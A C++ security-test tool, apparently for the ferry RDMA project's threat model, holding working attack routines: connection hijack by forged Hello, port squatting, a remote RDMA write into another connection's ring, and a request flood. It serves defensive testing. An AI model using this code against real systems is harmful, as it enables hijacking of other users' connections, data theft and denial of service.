// An unprivileged user's attempts to read or write another user's connection through
// ferry's RDMA side (docs/design.md, "Threat model"). Runs without ferry, as any user:
// rdma_cm's device is open to all.
//
//   rdma_intruder forge IP PORT CLIENT_PORT TCP_OFFSET SECONDS [RING_BYTES]
//     Asks the server at IP:PORT, with ferry's Hello, to carry the TCP connection from
//     CLIENT_PORT (another process's: read from /proc/net/tcp), offering a ring of its
//     own (said to be RING_BYTES large: 64 KiB); once accepted, claims the client cut
//     over at TCP_OFFSET (the bytes the client sent so far) and watches its ring for
//     SECONDS.
//   rdma_intruder squat IP PORT SECONDS [LEAVE]
//     Takes rdma_cm port PORT before a server does and answers every Hello with a
//     Welcome and a ring of its own, then watches the rings for SECONDS (or until
//     SIGTERM); with LEAVE, it goes (its queue pairs with it) LEAVE seconds after the
//     first Welcome.
//   rdma_intruder write IP PORT ADDR RKEY
//     A client of the server in its own right (its own TCP connection, upgraded as
//     ferry's client asks, then says "GO"): once accepted, writes 64 bytes to ADDR with RKEY (another
//     connection's ring in the server) and prints how the write completed.
//   rdma_intruder mute IP PORT SECONDS
//     A client of the server in its own right (as for write) that proves it holds its TCP connection
//     (ferry's binding) and cuts over, but posts no receive request: the server's
//     messages find none. Reads its TCP connection for SECONDS (or to its end) and
//     prints how many bytes came.
//   rdma_intruder flood IP PORT SECONDS
//     Sends ferry Hellos naming made-up client ports to the rdma_cm listener at
//     IP:PORT as fast as it can for SECONDS (no TCP connection behind any of them, no
//     queue pair), up to 2,048 outstanding; prints how many it sent and how they ended.
//
// Prints what it saw: "accepted"/"refused", then "landed N bytes" and the printable
// text of what landed (a ferry that binds its upgrades lets nothing land), or the
// write's completion, or the TCP bytes.
#include "core/proto/wire.h"

#include <arpa/inet.h>
#include <poll.h>
#include <signal.h>
#include <rdma/rdma_cma.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

namespace wire = ferry::wire;

constexpr size_t kRing = 1 << 16;
// What a client of intrusion.py's push-all-server says first.
constexpr char kLine[] = "GO\n";

rdma_event_channel* g_events;

rdma_cm_event* next_event(int ms) {
  pollfd p{g_events->fd, POLLIN, 0};
  if (poll(&p, 1, ms) <= 0) return nullptr;
  rdma_cm_event* ev = nullptr;
  return rdma_get_cm_event(g_events, &ev) == 0 ? ev : nullptr;
}

// A queue pair and a ring anyone may write into, as ferry offers them.
struct Side {
  rdma_cm_id* id = nullptr;
  ibv_pd* pd = nullptr;
  ibv_cq* cq = nullptr;
  std::vector<uint8_t> ring = std::vector<uint8_t>(kRing, 0);
  uint8_t ctl[16 * 16] = {};
  ibv_mr* ring_mr = nullptr;
  ibv_mr* ctl_mr = nullptr;

  bool build(rdma_cm_id* on, int receives = 15) {
    id = on;
    pd = ibv_alloc_pd(id->verbs);
    cq = pd ? ibv_create_cq(id->verbs, 64, nullptr, nullptr, 0) : nullptr;
    if (!cq) return false;
    ibv_qp_init_attr a{};
    a.send_cq = a.recv_cq = cq;
    a.qp_type = IBV_QPT_RC;
    a.cap.max_send_wr = a.cap.max_recv_wr = 32;
    a.cap.max_send_sge = a.cap.max_recv_sge = 1;
    if (rdma_create_qp(id, pd, &a) != 0) return false;
    ring_mr = ibv_reg_mr(pd, ring.data(), ring.size(), IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
    ctl_mr = ibv_reg_mr(pd, ctl, sizeof ctl, IBV_ACCESS_LOCAL_WRITE);
    if (!ring_mr || !ctl_mr) return false;
    for (int i = 0; i < receives; ++i) {  // control messages (credits, the peer's cutover)
      ibv_sge s{reinterpret_cast<uint64_t>(ctl + 16 * i), 16, ctl_mr->lkey};
      ibv_recv_wr w{};
      w.wr_id = static_cast<uint64_t>(i);
      w.sg_list = &s;
      w.num_sge = 1;
      ibv_recv_wr* bad = nullptr;
      if (ibv_post_recv(id->qp, &w, &bad) != 0) return false;
    }
    return true;
  }
  uint64_t said = kRing;  // the ring size the Hello or Welcome gives
  wire::RingRef ref() const { return {reinterpret_cast<uint64_t>(ring.data()), ring_mr->rkey, said}; }
  // A ferry control message, as the peer's own would come.
  bool control(wire::Op op, uint64_t value) {
    uint8_t* m = ctl + 16 * 15;
    wire::encode(wire::Control{op, value, 0}, m);
    ibv_sge s{reinterpret_cast<uint64_t>(m), 16, ctl_mr->lkey};
    ibv_send_wr w{};
    w.opcode = IBV_WR_SEND;
    w.send_flags = IBV_SEND_SIGNALED;
    w.sg_list = &s;
    w.num_sge = 1;
    ibv_send_wr* bad = nullptr;
    return ibv_post_send(id->qp, &w, &bad) == 0;
  }
};

// Asks the server's queue pair to retry forever (7), as a hostile peer would.
rdma_conn_param param(const void* data, uint8_t len) {
  rdma_conn_param p{};
  p.private_data = data;
  p.private_data_len = len;
  p.retry_count = 7;
  p.rnr_retry_count = 7;
  return p;
}

// Watches the rings for `seconds` and reports what landed.
volatile sig_atomic_t g_stop = 0;

int report(const std::vector<Side*>& sides, int seconds) {
  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
  while (std::chrono::steady_clock::now() < until) {
    if (rdma_cm_event* ev = next_event(100)) rdma_ack_cm_event(ev);
  }
  size_t landed = 0;
  std::string text;
  for (const Side* s : sides) {
    for (uint8_t b : s->ring) {
      if (b == 0) continue;
      ++landed;
      if (b >= 0x20 && b < 0x7f && text.size() < 200) text += static_cast<char>(b);
    }
  }
  printf("landed %zu bytes\n", landed);
  if (!text.empty()) printf("text: %s\n", text.c_str());
  return 0;
}

// One request: the answer event (null if none came in `seconds`).
// speak_fd: a TCP connection of our own on which to send a line once the server holds
// the request (its program then reads, and answers), or once refused.
rdma_cm_event* ask(Side& side, const sockaddr_in& server, uint16_t client_port, int receives = 15,
                   int speak_fd = -1) {
  rdma_cm_id* id = nullptr;
  if (rdma_create_id(g_events, &id, nullptr, RDMA_PS_TCP) != 0) return nullptr;
  rdma_cm_event* ev = nullptr;
  if (rdma_resolve_addr(id, nullptr, (sockaddr*)&server, 2000) != 0 || !(ev = next_event(5000)) ||
      ev->event != RDMA_CM_EVENT_ADDR_RESOLVED)
    return nullptr;
  rdma_ack_cm_event(ev);
  if (rdma_resolve_route(id, 2000) != 0 || !(ev = next_event(5000)) || ev->event != RDMA_CM_EVENT_ROUTE_RESOLVED)
    return nullptr;
  rdma_ack_cm_event(ev);
  if (!side.build(id, receives)) {
    perror("verbs");
    return nullptr;
  }
  uint8_t hello[wire::kHelloSize];
  wire::encode(wire::Hello{client_port, ntohs(server.sin_port), side.ref()}, hello);
  rdma_conn_param p = param(hello, sizeof hello);
  if (rdma_connect(id, &p) != 0) return nullptr;
  // A ferry server holds a request until its program reads from the connection.
  ev = next_event(1000);
  if (!ev) printf("asked\n");
  // Said either way: the server's program waits for it.
  if (speak_fd >= 0 && send(speak_fd, kLine, sizeof kLine - 1, 0) != sizeof kLine - 1) return nullptr;
  return ev ? ev : next_event(40000);
}

int forge(const sockaddr_in& server, uint16_t client_port, uint64_t offset, int seconds, uint64_t said) {
  Side side;
  side.said = said;
  rdma_cm_event* ev = ask(side, server, client_port);
  if (!ev || ev->event != RDMA_CM_EVENT_ESTABLISHED) {
    printf("refused (%s, status %d)\n", ev ? rdma_event_str(ev->event) : "no answer", ev ? ev->status : 0);
    if (ev) rdma_ack_cm_event(ev);
    return 0;
  }
  rdma_ack_cm_event(ev);
  printf("accepted\n");
  // "The client cut over here": from now on the server would read the ring and write
  // the client's bytes into ours.
  side.control(wire::Op::cutover, offset);
  return report({&side}, seconds);
}

int squat(const sockaddr_in& at, int seconds, int leave) {
  signal(SIGTERM, [](int) { g_stop = 1; });  // stopped early, it still says what it did
  rdma_cm_id* listen = nullptr;
  if (rdma_create_id(g_events, &listen, nullptr, RDMA_PS_TCP) != 0) return 1;
  if (rdma_bind_addr(listen, (sockaddr*)&at) != 0 || rdma_listen(listen, 16) != 0) {
    perror("rdma_bind_addr");
    return 1;
  }
  printf("holding rdma_cm port %u\n", ntohs(at.sin_port));
  fflush(stdout);
  std::vector<Side*> sides;
  auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
  while (!g_stop && std::chrono::steady_clock::now() < until) {
    rdma_cm_event* ev = next_event(100);
    if (!ev) continue;
    if (ev->event != RDMA_CM_EVENT_CONNECT_REQUEST) {
      rdma_ack_cm_event(ev);
      continue;
    }
    rdma_cm_id* id = ev->id;
    wire::Hello h;
    const bool ok = wire::decode(ev->param.conn.private_data, ev->param.conn.private_data_len, h) == wire::Error::ok;
    rdma_ack_cm_event(ev);
    auto* side = new Side;
    if (!ok || !side->build(id)) {
      rdma_reject(id, nullptr, 0);
      continue;
    }
    // Any nonce: it has none of the server's to give.
    uint8_t welcome[wire::kWelcomeSize];
    wire::encode(wire::Welcome{side->ref(), {}}, welcome);
    rdma_conn_param p = param(welcome, sizeof welcome);
    if (rdma_accept(id, &p) != 0) continue;
    printf("accepted a request for client port %u\n", h.client_port);
    fflush(stdout);
    if (sides.empty() && leave >= 0) until = std::min(until, std::chrono::steady_clock::now() + std::chrono::seconds(leave));
    sides.push_back(side);
  }
  return report(sides, 0);
}

// A TCP connection of our own to the server: its descriptor and source port.
int own_connection(const sockaddr_in& server, uint16_t& port) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in me{};
  socklen_t len = sizeof me;
  if (fd < 0 || connect(fd, (const sockaddr*)&server, sizeof server) != 0 ||
      getsockname(fd, (sockaddr*)&me, &len) != 0) {
    perror("connect");
    return -1;
  }
  port = ntohs(me.sin_port);
  return fd;
}

// The upgrade of our own connection, as ferry's client asks for it: the Welcome (false
// if refused).
bool upgrade_own(Side& side, int fd, const sockaddr_in& server, uint16_t port, int receives, wire::Welcome& w) {
  rdma_cm_event* ev = ask(side, server, port, receives, fd);
  if (!ev || ev->event != RDMA_CM_EVENT_ESTABLISHED ||
      wire::decode(ev->param.conn.private_data, ev->param.conn.private_data_len, w) != wire::Error::ok) {
    printf("refused (%s)\n", ev ? rdma_event_str(ev->event) : "no answer");
    if (ev) rdma_ack_cm_event(ev);
    return false;
  }
  rdma_ack_cm_event(ev);
  printf("accepted\n");
  return true;
}

constexpr uint64_t kWriteTag = 0xbad;

int write_other(const sockaddr_in& server, uint64_t addr, uint32_t rkey) {
  uint16_t port = 0;
  const int fd = own_connection(server, port);
  Side side;
  wire::Welcome w;
  if (fd < 0 || !upgrade_own(side, fd, server, port, 15, w)) return 0;
  // 64 bytes of a record's worth of text where another connection's ring is.
  uint8_t* text = side.ring.data();
  memset(text, 'X', 64);
  memcpy(text, "INJECTED", 8);
  ibv_sge s{reinterpret_cast<uint64_t>(text), 64, side.ring_mr->lkey};
  ibv_send_wr wr{};
  wr.wr_id = kWriteTag;
  wr.opcode = IBV_WR_RDMA_WRITE;
  wr.send_flags = IBV_SEND_SIGNALED;
  wr.sg_list = &s;
  wr.num_sge = 1;
  wr.wr.rdma.remote_addr = addr;
  wr.wr.rdma.rkey = rkey;
  ibv_send_wr* bad = nullptr;
  if (ibv_post_send(side.id->qp, &wr, &bad) != 0) {
    perror("ibv_post_send");
    return 1;
  }
  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  ibv_wc wc{};
  while (std::chrono::steady_clock::now() < until) {
    const int n = ibv_poll_cq(side.cq, 1, &wc);
    if (n < 0) break;
    if (n == 0 || wc.wr_id != kWriteTag) {  // (an error completion's opcode means nothing)
      usleep(1000);
      continue;
    }
    printf("write to another connection's ring: %s\n", ibv_wc_status_str(wc.status));
    close(fd);
    return 0;
  }
  printf("write to another connection's ring: no completion\n");
  close(fd);
  return 0;
}

int mute(const sockaddr_in& server, int seconds) {
  uint16_t port = 0;
  const int fd = own_connection(server, port);
  Side side;
  wire::Welcome w;
  if (fd < 0 || !upgrade_own(side, fd, server, port, 0, w)) return 0;
  // The proof, right at our cutover point (after our line), then the cutover:
  // the server trusts the channel and writes into our ring from now on.
  uint8_t proof[wire::kProofSize];
  wire::encode(wire::Proof{w.nonce, 0x5eed}, proof);
  if (send(fd, proof, sizeof proof, 0) != static_cast<ssize_t>(sizeof proof) || !side.control(wire::Op::cutover, sizeof kLine - 1)) {
    perror("proof");
    return 1;
  }
  printf("proved\n");
  size_t got = 0;
  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
  char buf[65536];
  while (std::chrono::steady_clock::now() < until) {
    pollfd p{fd, POLLIN, 0};
    if (poll(&p, 1, 100) <= 0) continue;
    const ssize_t n = recv(fd, buf, sizeof buf, 0);
    if (n <= 0) break;
    got += static_cast<size_t>(n);
  }
  printf("tcp received %zu bytes\n", got);
  close(fd);
  return 0;
}

int flood(const sockaddr_in& server, int seconds) {
  signal(SIGTERM, [](int) { g_stop = 1; });  // stopped early, it still says what it did
  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
  size_t sent = 0, rejected = 0, other = 0, outstanding = 0;
  uint16_t port = 1024;
  uint8_t hello[wire::kHelloSize];
  uint8_t ring[64] = {};
  auto settle = [&](rdma_cm_event* ev) {
    rdma_cm_id* id = ev->id;
    const rdma_cm_event_type type = ev->event;
    rdma_ack_cm_event(ev);
    switch (type) {
      case RDMA_CM_EVENT_ADDR_RESOLVED:
        if (rdma_resolve_route(id, 2000) == 0) return;
        break;
      case RDMA_CM_EVENT_ROUTE_RESOLVED: {
        port = static_cast<uint16_t>(port == 65535 ? 1024 : port + 1);
        wire::encode(wire::Hello{port, ntohs(server.sin_port), {reinterpret_cast<uint64_t>(ring), 1, 4096}}, hello);
        rdma_conn_param p = param(hello, sizeof hello);
        p.qp_num = 1;  // no queue pair: nothing will come of it
        if (rdma_connect(id, &p) == 0) {
          ++sent;
          return;
        }
        break;
      }
      case RDMA_CM_EVENT_REJECTED:
        ++rejected;
        break;
      default:
        ++other;
        break;
    }
    rdma_destroy_id(id);
    --outstanding;
  };
  while (!g_stop && std::chrono::steady_clock::now() < until) {
    while (outstanding < 2048) {
      rdma_cm_id* id = nullptr;
      if (rdma_create_id(g_events, &id, nullptr, RDMA_PS_TCP) != 0) break;
      if (rdma_resolve_addr(id, nullptr, (sockaddr*)&server, 2000) != 0) {
        rdma_destroy_id(id);
        break;
      }
      ++outstanding;
    }
    if (rdma_cm_event* ev = next_event(10)) settle(ev);
  }
  printf("flood: %zu requests sent, %zu rejected, %zu ended otherwise, %zu outstanding\n", sent, rejected, other,
         outstanding);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string usage =
      "usage: rdma_intruder forge IP PORT CLIENT_PORT TCP_OFFSET SECONDS [RING_BYTES] | squat IP PORT SECONDS [LEAVE]\n"
      "       | write IP PORT ADDR RKEY | mute IP PORT SECONDS | flood IP PORT SECONDS\n";
  if (argc < 5) {
    fputs(usage.c_str(), stderr);
    return 2;
  }
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(atoi(argv[3])));
  if (inet_pton(AF_INET, argv[2], &addr.sin_addr) != 1) return 2;
  g_events = rdma_create_event_channel();
  if (!g_events) {
    perror("rdma_create_event_channel");
    return 1;
  }
  const std::string mode = argv[1];
  setvbuf(stdout, nullptr, _IOLBF, 0);
  if (mode == "forge" && argc >= 7)
    return forge(addr, static_cast<uint16_t>(atoi(argv[4])), strtoull(argv[5], nullptr, 10), atoi(argv[6]),
                 argc >= 8 ? strtoull(argv[7], nullptr, 0) : kRing);
  if (mode == "squat") return squat(addr, atoi(argv[4]), argc >= 6 ? atoi(argv[5]) : -1);
  if (mode == "write" && argc >= 6)
    return write_other(addr, strtoull(argv[4], nullptr, 0), static_cast<uint32_t>(strtoul(argv[5], nullptr, 0)));
  if (mode == "mute") return mute(addr, atoi(argv[4]));
  if (mode == "flood") return flood(addr, atoi(argv[4]));
  fputs(usage.c_str(), stderr);
  return 2;
}
